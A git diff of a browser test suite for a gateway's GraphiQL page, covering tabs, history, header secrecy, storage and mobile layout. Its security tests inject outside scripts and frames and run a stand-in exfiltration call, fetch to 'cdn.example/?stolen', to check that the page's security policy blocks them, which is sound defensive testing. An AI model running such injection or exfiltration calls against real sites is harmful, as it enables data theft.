@@ -1,97 +1,185 @@
-import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
-import { tmpdir } from 'node:os';
-import { join } from 'node:path';
+import { readdirSync } from 'node:fs';
 import { fileURLToPath } from 'node:url';
-import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
-import { listeningGateway } from '../client/listening-gateway.ts';
-import { type OpenBrowser, openBrowser } from './browser.ts';
+import { describe, expect, it, vi } from 'vitest';
+import { BLOCKED, useGraphiql } from './graphiql.ts';
 
-const OPERATIONS = new URL('../../schema/operations/', import.meta.url);
+const OPERATIONS = readdirSync(new URL('../../schema/operations/', import.meta.url)).map((file) =>
+  file.replace('.graphql', ''),
+);
 const PICTURE = fileURLToPath(new URL('../fixtures/graphiql.png', import.meta.url));
+const SECRET = 'secret-of-a-caller-0123456789';
+const OWN = '{ upstreams { name } }';
 
-let folder: string;
-let gateway: Awaited<ReturnType<typeof listeningGateway>>;
-let browser: OpenBrowser;
+// The page is nine megabytes of script, and a busy machine takes seconds to read it.
+vi.setConfig({ testTimeout: 60_000 });
 
-// In the words of the browser, whose types this project does not know.
-const WATCH =
-  'broken = []; addEventListener("securitypolicyviolation", (event) => broken.push(event.effectiveDirective))';
-const insert = (tag: string, properties: object) =>
-  browser.page.evaluate(
-    `void document.head.append(Object.assign(document.createElement("${tag}"), ${JSON.stringify(properties)}))`,
-  );
+const graphiql = useGraphiql();
+const { open, openAnew, kept, brokenRules, tab, tabNames, selected, text, clickOnce, run } = graphiql;
 
-/** The rules of the page that something on it has broken. */
-const brokenRules = () => browser.page.evaluate('broken') as Promise<string[]>;
+/** The labels of the history, the latest first. */
+async function history(): Promise<string[]> {
+  await graphiql.page.getByRole('button', { name: 'Show History' }).click();
+  const labels = graphiql.page.locator('.graphiql-history-item-label');
+  await labels.first().waitFor();
+  return labels.allInnerTexts();
+}
 
-beforeAll(async () => {
-  // The browser is unpacked into TMPDIR: one of our own, or two runs on one machine would meet there.
-  folder = mkdtempSync(join(tmpdir(), 'checkpoint-gateway-browser-'));
-  vi.stubEnv('TMPDIR', folder);
-  gateway = await listeningGateway();
-  browser = await openBrowser(folder, gateway.url);
-  await browser.page.addInitScript(WATCH);
-  await browser.page.goto(`${gateway.url}/graphql`);
-});
-
-afterAll(async () => {
-  await browser?.close();
-  await gateway?.close();
-  vi.unstubAllEnvs();
-  rmSync(folder, { recursive: true });
-});
-
-describe('GraphiQL in a browser', () => {
-  it('opens with a tab for each stored operation, the vault overview first', async () => {
-    await browser.page.locator('.graphiql-execute-button').waitFor();
-    const tabs = await browser.page.getByRole('tab').allInnerTexts();
-    const operations = readdirSync(OPERATIONS).map((file) => file.replace('.graphql', ''));
-    const asFiles = tabs.map((tab) => tab.replaceAll(/\B[A-Z]/g, '-$&').toLowerCase());
+// These share one page.
+describe('a first visit to GraphiQL', () => {
+  it('shows a tab for each stored operation, the vault overview first', async () => {
+    await openAnew();
+    const asFiles = (await tabNames()).map((name) => name.replaceAll(/\B[A-Z]/g, '-$&').toLowerCase());
     expect(asFiles[0]).toBe('vault-overview');
-    expect(asFiles.sort()).toEqual(operations.sort());
+    expect(asFiles.sort()).toEqual(OPERATIONS.sort());
   });
 
   it('shows the vaults of the sandbox at the press of a button, and asks nothing of any other origin', async () => {
-    const { page, foreignRequests } = browser;
-    await page.locator('.graphiql-execute-button').click();
+    const { page, browser } = graphiql;
+    await run();
     const result = page.locator('.result-window');
     await result.getByText('"vault-orders-prod"').waitFor();
     if (process.env.SCREENSHOT === '1') await page.screenshot({ path: PICTURE, animations: 'disabled' });
     expect(await result.textContent()).toContain('orders-db-01');
-    expect(foreignRequests).toEqual([]);
+    expect(browser.foreignRequests).toEqual([]);
   });
 
   it('works in workers of its own, and within the rules of its page', async () => {
-    expect(browser.page.workers().length).toBeGreaterThan(0);
+    expect(graphiql.page.workers().length).toBeGreaterThan(0);
     expect(await brokenRules()).toEqual([]);
   });
 
-  it('shows itself again under the address into which it wrote its query', async () => {
-    const { page } = browser;
-    await page.goto(`${gateway.url}/graphql?query=${encodeURIComponent('{ upstreams { name } }')}`);
-    await page.locator('.graphiql-execute-button').waitFor();
-    expect(await brokenRules()).toEqual([]);
+  it('selects each tab by one click, and each does as delivered what it is there for', async () => {
+    const names = await tabNames();
+    expect(await selected()).toEqual(names.slice(0, 1));
+    for (const name of [...names.slice(1), ...names.slice(0, 1)]) {
+      await clickOnce(name);
+      await expect.poll(selected).toEqual([name]);
+      await expect.poll(() => text('query-editor')).toContain(name);
+      const { body } = await run();
+      expect(body).not.toHaveProperty('errors');
+      const [field] = Object.values(body.data ?? {});
+      expect(field).not.toBeNull();
+      if (field.__typename) expect(field).toMatchObject({ __typename: `${name}Payload` });
+    }
+    await clickOnce('VaultDetail');
+    await graphiql.page.waitForURL(/VaultDetail/);
+    await graphiql.page.reload();
+    await expect.poll(selected).toEqual(['VaultDetail']);
+    expect(await tabNames()).toEqual(names);
+    await expect.poll(() => text('editor-tool')).toContain('vault:sg:');
   });
+});
 
+describe('the page of GraphiQL', () => {
   it.each([
     ['a script from outside', 'script', { src: 'https://cdn.example/a.js' }, 'script-src-elem'],
     ['a script written into it', 'script', { textContent: 'document.title = "taken"' }, 'script-src-elem'],
     ['a picture from outside', 'img', { src: 'https://cdn.example/a.png' }, 'img-src'],
     ['a frame from outside', 'iframe', { src: 'https://cdn.example/' }, 'frame-src'],
     ['a style from outside', 'link', { rel: 'stylesheet', href: 'https://cdn.example/a.css' }, 'style-src-elem'],
-  ])('does not let in %s', async (_name, tag, properties, rule) => {
-    const { page, foreignRequests } = browser;
-    await insert(tag, properties);
+  ])('does not let in %s', async (_name, kind, properties, rule) => {
+    const { page, browser } = graphiql;
+    await page.evaluate(
+      `void document.head.append(Object.assign(document.createElement("${kind}"), ${JSON.stringify(properties)}))`,
+    );
     await expect.poll(async () => (await brokenRules()).at(-1)).toBe(rule);
-    expect([await page.title(), foreignRequests]).toEqual(['checkpoint-gateway', []]);
+    expect([await page.title(), browser.foreignRequests]).toEqual(['checkpoint-gateway', []]);
   });
 
   it('sends nothing to any other origin', async () => {
-    const { page, foreignRequests } = browser;
+    const { page, browser } = graphiql;
     const sent = page.evaluate(
       'fetch("https://cdn.example/?stolen", { mode: "no-cors" }).then(() => "sent", () => "kept")',
     );
-    expect([await sent, foreignRequests]).toEqual(['kept', []]);
+    expect([await sent, browser.foreignRequests]).toEqual(['kept', []]);
+  });
+});
+
+describe('a query in the address', () => {
+  it('has a tab of its own, on a first visit and later, and once', async () => {
+    for (const visit of [openAnew, open]) {
+      await visit(`?query=${encodeURIComponent(OWN)}`);
+      await expect.poll(() => text('query-editor')).toMatch(/upstreams\s{\sname\s}/);
+      const names = await tabNames();
+      expect([names.length, names.at(-1), await selected()]).toEqual([
+        OPERATIONS.length + 1,
+        '<untitled>',
+        ['<untitled>'],
+      ]);
+    }
+    expect((await run()).body).toMatchObject({
+      data: { upstreams: [{ name: 'sg' }, { name: 'eu' }, { name: 'lab' }] },
+    });
+    await clickOnce('VaultOverview');
+    await expect.poll(() => text('query-editor')).toContain('VaultOverview');
+    expect(await brokenRules()).toEqual([]);
+  });
+});
+
+describe('what is sent by GraphiQL', () => {
+  it('is in its history the next time, without its headers, which are kept nowhere', async () => {
+    const { page } = graphiql;
+    await openAnew();
+    await page.getByRole('button', { name: 'Headers' }).click();
+    await page.locator('.graphiql-editor-tool .monaco-editor').last().click();
+    await page.keyboard.insertText(`{ "x-auth-token": "${SECRET}" }`);
+    await expect.poll(async () => (await run()).headers['x-auth-token']).toBe(SECRET);
+    await expect.poll(kept).toContain('"graphiql:queries":"{\\"queries\\":[{');
+    expect(await kept()).not.toContain(SECRET);
+    await page.reload();
+    expect((await run()).headers).not.toHaveProperty('x-auth-token');
+    expect((await history())[0]).toBe('VaultOverview');
+    expect(await kept()).not.toContain(SECRET);
+  });
+});
+
+describe('GraphiQL in a browser', () => {
+  // Each that GraphiQL reads, as JSON or as a text.
+  const NO_JSON = ['tabState', 'queries', 'favorites', 'theme', 'visiblePlugin', 'editorFlex', 'docExplorerFlex'];
+  const OF_ANOTHER_SHAPE = { tabState: '{"tabs":[{}]}', queries: '{"queries":[null]}', favorites: 'null', theme: '{}' };
+  const itemsOf = (values: object) =>
+    Object.fromEntries(Object.entries(values).map(([key, value]) => [`graphiql:${key}`, value]));
+
+  it.each([
+    ['that blocks its storage', BLOCKED, {}],
+    ['that has kept what is no JSON', '', itemsOf(Object.fromEntries(NO_JSON.map((name) => [name, '{'])))],
+    ['that has kept what another page has written', '', itemsOf(OF_ANOTHER_SHAPE)],
+  ])('%s is as on a first visit', async (_name, hash, items) => {
+    await openAnew(hash, items);
+    expect([(await tabNames()).length, await selected()]).toEqual([OPERATIONS.length, ['VaultOverview']]);
+    expect((await run()).body).not.toHaveProperty('errors');
+    expect(await history()).toEqual(['VaultOverview']);
+  });
+});
+
+describe('on a telephone, 390 pixels wide,', () => {
+  it('GraphiQL has no more tabs when it is loaded again, and each can be chosen', async () => {
+    const { page } = graphiql;
+    await openAnew();
+    await page.setViewportSize({ width: 390, height: 844 });
+    await page.reload();
+    await expect.poll(tabNames).toHaveLength(OPERATIONS.length);
+    expect(await selected()).toEqual(['VaultOverview']);
+    for (const name of await tabNames()) {
+      await tab(name).scrollIntoViewIfNeeded();
+      await clickOnce(name);
+      await expect.poll(selected).toEqual([name]);
+    }
+  });
+
+  it('GraphiQL has room for a query and its answer', async () => {
+    const { page } = graphiql;
+    await tab('VaultOverview').scrollIntoViewIfNeeded();
+    await clickOnce('VaultOverview');
+    await run();
+    await page.locator('.result-window').getByText('"vault-orders-prod"').waitFor();
+    for (const part of ['.graphiql-query-editor .monaco-editor', '.result-window']) {
+      const { x, width, y, height } = (await page.locator(part).boundingBox()) ?? { x: 0, width: 0, y: 0, height: 0 };
+      expect(width, part).toBeGreaterThan(240);
+      expect(height, part).toBeGreaterThan(150);
+      expect([x >= 0, x + width <= 390, y + height <= 844]).toEqual([true, true, true]);
+    }
+    expect(await page.evaluate('document.documentElement.scrollWidth')).toBe(390);
   });
 });
 
@@ -99,10 +187,10 @@ describe('the browser of these tests', () => {
   it.each(['http://192.0.2.1/a', 'http://localhost:65000/b', 'https://cdn.example/c'])(
     'does not get to %s',
     async (url) => {
-      const { page, foreignRequests, close } = await openBrowser(folder, gateway.url);
+      const { page, browser } = graphiql;
+      const before = browser.foreignRequests.length;
       await page.goto(url).catch(() => undefined);
-      await close();
-      expect(foreignRequests).toHaveLength(1);
+      expect(browser.foreignRequests).toHaveLength(before + 1);
     },
   );
 });
